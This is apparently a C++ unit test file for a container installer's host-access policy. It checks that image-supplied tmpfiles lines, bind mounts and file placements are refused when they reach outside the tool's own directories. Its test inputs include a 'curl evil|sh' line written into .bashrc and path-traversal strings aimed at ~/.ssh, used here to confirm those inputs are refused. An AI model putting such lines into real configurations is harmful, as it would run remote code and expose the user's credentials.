// What an image may do to the host (host_policy.h): each refusal names the
// line or path and the flag that would allow it; what is allowed is listed.
#include "install/host_policy.h"

#include <gtest/gtest.h>

#include "tests/unit/install/samples.h"

namespace box::install {
namespace {

Locations locs() { return testing::sample_locations(); }

HostPlaces places() {
  return {"/home/u", "/home/u/.config", "/home/u/.local/share",
          {"/usr/bin", "/home/u/.local/bin", "/home/u/bin", "/home/u/.cargo/bin"}};
}

image::TmpfilesEntry entry(const std::string& line) {
  auto e = image::parse_tmpfiles(line + "\n", "t");
  EXPECT_TRUE(e.ok()) << line;
  return e->at(0);
}

std::string refusal(const std::string& line) {
  auto r = refuse_tmpfiles_line(entry(line), locs(), "app", "tmpfiles.template:3");
  return r ? *r : "";
}

TEST(HostPolicy, TmpfilesDirectoriesInTheBoxsOwnPlaces) {
  for (const char* ok : {"d /home/u/.local/share/box/state/app 0700 - - -",
                         "D /run/user/1000/box/run/app/cache",
                         "d! /home/u/.local/share/box/containers/app/x",
                         "v /home/u/.local/share/box/state/app/v", "q /run/user/1000/box/run/app",
                         "Q- /run/user/1000/box/run/app/q"})
    EXPECT_EQ(refusal(ok), "") << ok;
}

TEST(HostPolicy, TmpfilesLinesThatActOnYourFilesAreRefused) {
  struct Case {
    const char* line;
    const char* says;
  } cases[] = {
      // Finding 3 of issue 12.
      {"d /run/user/1000/box/run/app/../../../../../../home/u/precious",
       "is not a canonical absolute path"},
      // Finding 4 of issue 12, aimed at %h.
      {"w+ %h/.bashrc - - - - curl evil|sh", "specifiers ('%')"},
      {"d relative/dir", "is not a canonical absolute path"},
      {"w+ /home/u/.bashrc - - - - x", "'w+' writes into a file"},
      {"Z /home/u 0777", "'Z' changes the mode and owner"},
      {"R /home/u/.ssh", "'R' removes files"},
      {"L+ /home/u/.ssh - - - - /tmp/x", "'L+' creates a symlink"},
      {"f /home/u/.local/share/box/state/app/x", "'f' creates or truncates a file"},
      {"e /home/u/.local/share/box/state/app 0700", "'e' adjusts and cleans up"},
      {"x /home/u/.local/share/box/state/app", "'x' changes what is cleaned up"},
      {"p /run/user/1000/box/run/app/fifo", "'p' creates a FIFO"},
      {"d /home/u/precious", "is outside the box's own directories"},
      {"d /run/user/1000/bus/x", "is outside the box's own directories"},
      {"d /home/u/.local/share/box/state/other", "is outside the box's own directories"},
      {"d /home/u/.local/share/box/images/app/x", "is outside the box's own directories"},
      {"d /home/u/.local/share/box/state/app/\\x2e\\x2e/x", "escapes ('\\')"},
      {"d \"/home/u/.local/share/box/state/app/a b\"", "quotes"},
      {"d= /home/u/.local/share/box/state/app", "only the '!' and '-' modifiers"},
  };
  for (const auto& c : cases) {
    std::string r = refusal(c.line);
    EXPECT_NE(r.find(c.says), std::string::npos) << c.line << " -> " << r;
    EXPECT_EQ(r.rfind("tmpfiles.template:3: '", 0), 0u) << r;
  }
}

TEST(HostPolicy, TheTmpfilesLineWrittenIsTheOneChecked) {
  EXPECT_EQ(tmpfiles_line_text(entry("d  /run/user/1000/box/run/app 0700 - -   - ignored")),
            "d /run/user/1000/box/run/app 0700 - - -");
  EXPECT_EQ(tmpfiles_line_text(entry("d /run/user/1000/box/run/app")),
            "d /run/user/1000/box/run/app");
}

TEST(HostPolicy, PlacesThatRunCodeOrConfigureOtherSoftware) {
  const HostPlaces p = places();
  struct Case {
    const char* dest;
    const char* says;  // "" : allowed
  } cases[] = {
      {"/home/u/.config/systemd/user/x.service", "systemd user units"},
      {"/home/u/.config/systemd/user/default.target.wants/x.service", "systemd user units"},
      {"/home/u/.config/autostart/x.desktop", "XDG autostart"},
      {"/home/u/.config/box/containers/evil.yaml", "box definitions"},
      {"/home/u/.config/box/etc/other/other.conf", "another box's configuration"},
      {"/home/u/.config/environment.d/10-x.conf", "environment of every user service"},
      {"/home/u/.config/user-tmpfiles.d/x.conf", "systemd-tmpfiles rules"},
      {"/home/u/.config/mimeapps.list", "which program opens"},
      {"/home/u/.config/git/config", "$XDG_CONFIG_HOME"},
      {"/home/u/.local/share/systemd/user/x.service", "systemd user units"},
      {"/home/u/.local/share/dbus-1/services/org.x.service", "D-Bus service files"},
      {"/home/u/.local/share/applications/x.desktop", "desktop entries"},
      {"/home/u/.local/share/box/images/other/rootfs/bin/sh", "your other boxes"},
      {"/home/u/.local/share/bash-completion/completions/x", "bash completion"},
      {"/home/u/.local/bin/ls", "on PATH"},
      {"/home/u/.local/bin/sub/x", "on PATH"},
      {"/home/u/.local/lib/python3.11/site-packages/x.py", "site-packages"},
      {"/home/u/.cargo/bin/cargo", "on PATH"},
      {"/home/u/.bashrc", "directly in $HOME"},
      {"/home/u/.local/share/../../.bashrc", "not a canonical path"},
      {"/home/u/.local/share/man/man1/etcdctl.1", ""},
      {"/home/u/.local/share/doc/etcd/README", ""},
      {"/home/u/.local/share/icons/hicolor/x.png", ""},
      {"/home/u/.local/libexec/etcd/helper", ""},
  };
  for (const auto& c : cases) {
    auto r = runs_code_or_configures(c.dest, p);
    if (!*c.says)
      EXPECT_FALSE(r.has_value()) << c.dest << ": " << *r;
    else if (!r)
      ADD_FAILURE() << c.dest << " is allowed";
    else
      EXPECT_NE(r->find(c.says), std::string::npos) << c.dest << ": " << *r;
  }
}

image::DefinitionDraft with_bind(const std::string& source, bool readonly = false) {
  image::DefinitionDraft d;
  image::DraftMount m;
  m.type = MountType::kBind;
  m.source = source;
  m.target = "/host";
  m.readonly = readonly;
  d.mounts.push_back(m);
  return d;
}

std::vector<std::string> refusals(const image::DefinitionDraft& d, const InstallOptions& o = {}) {
  std::vector<HostChange> changes;
  std::vector<std::string> refused;
  check_definition_reach(d, locs(), "app", o, "config.json.template", changes, refused);
  return refused;
}

TEST(HostPolicy, BindSourcesOutsideTheBoxsOwnPlacesNeedConsent) {
  for (const char* own : {"/home/u/.local/share/box/state/app", "/run/user/1000/box/run/app/s",
                          "/home/u/.local/share/box/containers/app/x",
                          "/home/u/.local/share/box/images/app/rootfs/etc"})
    EXPECT_TRUE(refusals(with_bind(own)).empty()) << own;
  // The image dir beside the rootfs holds image.json: read-only only.
  EXPECT_TRUE(refusals(with_bind("/home/u/.local/share/box/images/app", true)).empty());
  EXPECT_EQ(refusals(with_bind("/home/u/.local/share/box/images/app")).size(), 1u);

  // Public host files every runtime gives a container: read-only only.
  EXPECT_TRUE(refusals(with_bind("/etc/resolv.conf", true)).empty());
  EXPECT_TRUE(refusals(with_bind("/etc/hosts", true)).empty());
  EXPECT_EQ(refusals(with_bind("/etc/resolv.conf")).size(), 1u);
  EXPECT_EQ(refusals(with_bind("/etc/passwd", true)).size(), 1u);

  auto root = refusals(with_bind("/"));
  ASSERT_EQ(root.size(), 1u);
  EXPECT_EQ(root[0],
            "config.json.template: bind of host path '/' (read-write) to '/host': outside the "
            "box's own places; add --allow-bind / to allow it");
  EXPECT_EQ(refusals(with_bind("/home/u")).size(), 1u);
  EXPECT_EQ(refusals(with_bind("/home/u", true)).size(), 1u);
  InstallOptions allowed;
  allowed.allow_binds = {"/"};
  std::vector<HostChange> changes;
  std::vector<std::string> refused;
  check_definition_reach(with_bind("/"), locs(), "app", allowed, "config.json", changes, refused);
  EXPECT_TRUE(refused.empty());
  ASSERT_EQ(changes.size(), 1u);
  EXPECT_EQ(changes[0], (HostChange{"bind", "/", "read-write to /host (allowed by --allow-bind)"}));
  // Consent is for the path named, not for what is below or above it.
  EXPECT_EQ(refusals(with_bind("/etc"), allowed).size(), 1u);

  // Finding 3: not canonical, refused even with consent to that text.
  const std::string sneaky = "/home/u/.local/share/box/state/app/../../../../../.ssh";
  InstallOptions that;
  that.allow_binds = {sneaky};
  auto r = refusals(with_bind(sneaky), that);
  ASSERT_EQ(r.size(), 1u);
  EXPECT_NE(r[0].find("not a canonical absolute path"), std::string::npos) << r[0];
}

TEST(HostPolicy, HostNamespacesAndAutostartNeedConsent) {
  image::DefinitionDraft d;
  d.namespaces = {{"pid", "host"}, {"ipc", "host"}, {"uts", "host"}, {"cgroup", "host"}};
  d.autostart = Autostart::kLogin;
  auto r = refusals(d);
  ASSERT_EQ(r.size(), 3u);
  EXPECT_NE(r[0].find("add --allow-host-namespace pid"), std::string::npos) << r[0];
  EXPECT_NE(r[1].find("add --allow-host-namespace ipc"), std::string::npos) << r[1];
  EXPECT_NE(r[2].find("add --allow-autostart"), std::string::npos) << r[2];
  InstallOptions o;
  o.allow_host_namespaces = {"pid", "ipc"};
  o.allow_autostart = true;
  EXPECT_TRUE(refusals(d, o).empty());
}

TEST(HostPolicy, RecordsUninstallMayActOn) {
  const Locations l = locs();
  const HostPlaces p = places();
  auto ok = [&](const std::string& path, const std::string& kind) {
    return !refuse_record(CreatedPath{path, kind, 1, 2}, l, "app", p).has_value();
  };
  EXPECT_TRUE(ok("/home/u/.local/share/box/state/app", "data"));
  EXPECT_TRUE(ok("/home/u/.local/share/box/containers/app/x", "data"));
  EXPECT_TRUE(ok("/run/user/1000/box/run/app", "runtime"));
  EXPECT_TRUE(ok("/home/u/.config/box/etc/app", "data"));
  EXPECT_TRUE(ok("/home/u/.config/box/etc/app/app.conf", "host-file"));
  EXPECT_TRUE(ok("/home/u/.local/share/man/man1/x.1", "host-file"));
  EXPECT_TRUE(ok("/home/u/.config/user-tmpfiles.d/box-app.conf", "tmpfiles"));
  // An image.json edited to name your files.
  EXPECT_FALSE(ok("/home/u/.ssh", "data"));
  EXPECT_FALSE(ok("/home/u/.local/share/box/state/app/../../../../.ssh", "data"));
  EXPECT_FALSE(ok("/home/u/.local/share/box/state/other", "data"));
  EXPECT_FALSE(ok("/home/u/.config/box/etc/other", "data"));
  EXPECT_FALSE(ok("/run/user/1000/box/run/app", "data"));
  EXPECT_FALSE(ok("/home/u/.local/share/box/state/app", "runtime"));
  EXPECT_FALSE(ok("/home/u/.ssh/authorized_keys", "host-file"));
  EXPECT_FALSE(ok("/home/u/.bashrc", "host-file"));
  EXPECT_FALSE(ok("/home/u/.config", "host-file"));
  EXPECT_FALSE(ok("/home/u/.config/user-tmpfiles.d/other.conf", "tmpfiles"));
  EXPECT_FALSE(ok("/home/u/.local/share/box/state/app", "what"));
}

}  // namespace
}  // namespace box::install
